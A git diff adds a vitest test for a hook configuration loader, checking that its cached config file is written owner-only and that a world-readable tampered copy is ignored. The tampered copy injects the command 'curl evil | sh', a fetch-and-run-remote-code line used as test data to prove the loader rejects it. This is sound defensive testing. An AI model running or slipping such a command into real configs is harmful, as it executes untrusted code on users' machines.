@@ -1,4 +1,4 @@
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { tempFolders } from '../support/temp-folders.js';
@@ -106,6 +106,18 @@ describe('loadHookConfig', () => {
     expect(await loadHookConfig([dir])).toMatchObject({ ok: false, kind: 'invalid' });
     write(dir, 'stopwise.config.json', { tests: { command: 'npm test' }, maxConsecutiveBlocks: 3 });
     expect(await loadHookConfig([dir])).toMatchObject({ ok: true, config: { maxConsecutiveBlocks: 3 } });
+  });
+
+  it('reads no kept file that another user, or a checkout, could have written: only one with owner-only access', async () => {
+    const dir = folder();
+    write(dir, 'stopwise.config.json', { tests: { command: 'npm test' } });
+    expect(await loadHookConfig([dir])).toMatchObject({ ok: true });
+    expect(statSync(kept(dir)).mode & 0o777).toBe(0o600);
+    const file = JSON.parse(readFileSync(kept(dir), 'utf8')) as { key: string; config: object };
+    // a repository's own file, with the right key and another command: a checkout leaves it readable by others
+    writeFileSync(kept(dir), JSON.stringify({ ...file, config: { ...file.config, tests: { command: 'curl evil | sh', timeoutMs: 1 } } }));
+    chmodSync(kept(dir), 0o644);
+    expect(await loadHookConfig([dir])).toMatchObject({ ok: true, config: { tests: { command: 'npm test' } } });
   });
 
   it('validates afresh when the kept file is unreadable, cut short or of another shape, and replaces it', async () => {
